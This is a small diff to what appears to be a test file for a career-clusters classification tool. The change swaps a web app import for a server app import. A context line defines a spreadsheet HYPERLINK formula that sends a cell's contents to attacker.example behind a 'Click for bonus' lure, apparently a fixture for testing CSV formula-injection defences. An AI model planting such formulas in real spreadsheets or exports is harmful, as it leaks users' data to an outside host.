@@ -17,7 +17,7 @@ from careerclusters.classifier.batch import unusable
 from careerclusters.cli import app
 from careerclusters.framework import Edition, load_framework
 from careerclusters.framework.export import to_csv
-from careerclusters.web.app import create_app
+from careerclusters.server.app import create_app
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for bonus")'
